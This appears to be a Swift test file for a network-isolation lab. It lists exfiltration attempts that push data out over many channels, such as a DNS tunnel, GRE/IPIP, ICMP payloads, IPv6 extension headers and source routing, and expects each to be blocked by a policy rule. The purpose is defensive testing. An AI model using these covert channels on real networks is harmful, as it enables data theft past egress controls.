import NamespaceLab

extension Attack {
  /// What the outside gets, whatever it is.
  private static func leaks(_ name: String, to place: Place = .wire(outside), _ tries: String...) -> Attack {
    Attack(name, from: reviews, to: place, tries)
  }

  private init(_ name: String, from: LabHost, to: Place, _ tries: [String]) {
    self.name = name
    self.from = from
    self.to = to
    self.tries = tries
    outcome = .stopped("S1", .external)
  }

  /// Protocol `number` to the outside, by IPv4 and IPv6.
  private static func leaks(_ name: String, protocol number: Int, _ content: String) -> Attack {
    leaks(
      name, "out(IP(src=OWN4, dst=PEER4, proto=\(number)) / \(content))",
      "out(IPv6(src=OWN6, dst=PEER6, nh=\(number)) / \(content))")
  }

  /// Everything that is not TCP or UDP as they are used to be.
  static let protocols = [
    leaks(
      "UDP", "out(IP(src=OWN4, dst=PEER4) / UDP(dport=443) / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / UDP(dport=443) / Raw(m))"),
    leaks("UDP-Lite", protocol: 136, "Raw(bytes.fromhex('000701bb00080000') + m)"),
    leaks("SCTP", protocol: 132, "SCTP(sport=7, dport=443) / SCTPChunkInit() / SCTPChunkData(data=m)"),
    leaks("DCCP", protocol: 33, "Raw(bytes.fromhex('000701bb0400000001000000') + bytes(8) + m)"),
    leaks("ESP", protocol: 50, "Raw(bytes.fromhex('0000000100000001') + m)"),
    leaks("AH", protocol: 51, "Raw(bytes.fromhex('3b0400000000000100000001') + bytes(12) + m)"),
    leaks("GRE", protocol: 47, "GRE(proto=0x800) / IP(src=OWN4, dst=FAR4) / UDP() / Raw(m)"),
    leaks("IPIP", protocol: 4, "IP(src=OWN4, dst=FAR4) / UDP() / Raw(m)"),
    leaks("6in4 and IPv6 in IPv6", protocol: 41, "IPv6(src=OWN6, dst=FAR6) / UDP() / Raw(m)"),
    leaks("OSPF", protocol: 89, "Raw(m)"), leaks("PIM", protocol: 103, "Raw(m)"),
    leaks("a protocol that nobody has", protocol: 253, "Raw(m)"),
    leaks(
      "VXLAN to an outside peer", "out(IP(src=OWN4, dst=PEER4) / vxlan(IP(src=OWN4, dst=FAR4) / UDP() / Raw(m)))",
      "out(IPv6(src=OWN6, dst=PEER6) / vxlan(IP(src=OWN4, dst=FAR4) / UDP() / Raw(m)))"),
    leaks("NAT64", "out(IPv6(src=OWN6, dst='64:ff9b::203.0.113.66') / UDP(dport=443) / Raw(m))"),
    leaks("IPv4-mapped address", "out(IPv6(src=OWN6, dst='::ffff:203.0.113.66') / UDP(dport=443) / Raw(m))"),
    leaks(
      "DNS tunnel to an outside resolver",
      "out(IP(src=OWN4, dst=RESOLVER) / UDP(dport=53) / DNS(rd=1, qd=DNSQR(qname=m + b'.tunnel.example')))",
      "out(IP(src=OWN4, dst=RESOLVER) / TCP(dport=53, flags='S') / Raw(m))"),
    leaks(
      "IPv6 extension headers",
      "out(IPv6(src=OWN6, dst=PEER6) / IPv6ExtHdrHopByHop() / UDP(dport=443) / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / IPv6ExtHdrDestOpt() / TCP(dport=443, flags='S') / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / IPv6ExtHdrFragment(id=9) / UDP(dport=443) / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / UDP(dport=443) / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6, nh=59) / Raw(m))"),
    Attack(
      "IPv6 extension headers, to a gateway", from: reviews, to: .wire(gateway), .stopped("S2", .gateway),
      "out(IPv6(src=OWN6, dst=GATEWAY6) / IPv6ExtHdrHopByHop() / TCP(dport=8443, flags='S') / Raw(m))",
      "out(IPv6(src=OWN6, dst=GATEWAY6) / IPv6ExtHdrDestOpt() / TCP(dport=8443, flags='S') / Raw(m))",
      "out(IPv6(src=OWN6, dst=GATEWAY6) / IPv6ExtHdrFragment(id=8) / TCP(dport=8443, flags='S') / Raw(m))"),
    Attack(
      "other protocols, to a gateway", from: reviews, to: .wire(gateway), .stopped("S3", .gateway),
      "out(IP(src=OWN4, dst=GATEWAY4) / UDP(dport=8443) / Raw(m))",
      "out(IP(src=OWN4, dst=GATEWAY4, proto=132) / SCTP(sport=7, dport=8443) / SCTPChunkData(data=m))",
      "out(IP(src=OWN4, dst=GATEWAY4, proto=253) / Raw(m))",
      "out(IP(src=OWN4, dst=GATEWAY4) / ICMP() / Raw(m))"),
    Attack(
      "IP options: a loose source route by its node", from: reviews, to: .wire(outside), .stopped("S14", .origin),
      "out(IP(src=OWN4, dst=WORKER4, options=[IPOption_LSRR(routers=[PEER4])]) / UDP(dport=443) / Raw(m))"),
    Attack(
      "IP options: record route, timestamp", from: reviews, to: .wire(outside), .stopped("S14", .origin),
      "out(IP(src=OWN4, dst=PEER4, options=[IPOption_RR(routers=['0.0.0.0'])]) / UDP(dport=443) / Raw(m))",
      "out(IP(src=OWN4, dst=PEER4, options=[IPOption(bytes.fromhex('440c0500') + bytes(8))]) / UDP(dport=443) / Raw(m))"
    ),
    Attack(
      "IP options: a router alert", from: reviews, to: .wire(outside), .stopped("S1", .external),
      "out(IP(src=OWN4, dst=PEER4, options=[IPOption_Router_Alert()]) / UDP(dport=443) / Raw(m))"),
    Attack(
      "IPv6 segment routing by its node", from: reviews, to: .wire(outside), .stopped("S14", .origin),
      "out(IPv6(src=OWN6, dst=WORKER6)"
        + " / IPv6ExtHdrSegmentRouting(addresses=[PEER6, PEER6], segleft=1, lastentry=1) / UDP(dport=443) / Raw(m))"),
    Attack(
      "IPv6 routing header type 0, by another pod", from: reviews, to: .wire(details), .stopped("S14", .origin),
      "out(IPv6(src=OWN6, dst=DETAILS6) / IPv6ExtHdrRouting(addresses=[PEER6], segleft=1) / UDP(dport=443) / Raw(m))"),
    leaks(
      "ICMP echo", "out(IP(src=OWN4, dst=PEER4) / ICMP() / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / ICMPv6EchoRequest(data=m))"),
    leaks(
      "ICMP echo reply that nobody asked for", "out(IP(src=OWN4, dst=PEER4) / ICMP(type=0) / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / ICMPv6EchoReply(data=m))"),
    leaks(
      "ICMP redirect", to: .errors(outside),
      "out(IP(src=OWN4, dst=PEER4) / ICMP(type=5, code=1, gw=OWN4) / IPerror(src=PEER4, dst=FAR4) / UDPerror() / Raw(m))"
    ),
    leaks(
      "ICMP error about nothing", to: .errors(outside),
      "out(IP(src=OWN4, dst=PEER4) / ICMP(type=3, code=3) / IPerror(src=PEER4, dst=OWN4) / UDPerror() / Raw(m))",
      "out(IPv6(src=OWN6, dst=PEER6) / ICMPv6DestUnreach(code=4) / IPerror6(src=PEER6, dst=OWN6) / UDPerror() / Raw(m))"
    ),
    leaks(
      "ICMP timestamp", "out(IP(src=OWN4, dst=PEER4) / ICMP(type=13) / Raw(m))"),
  ]
}
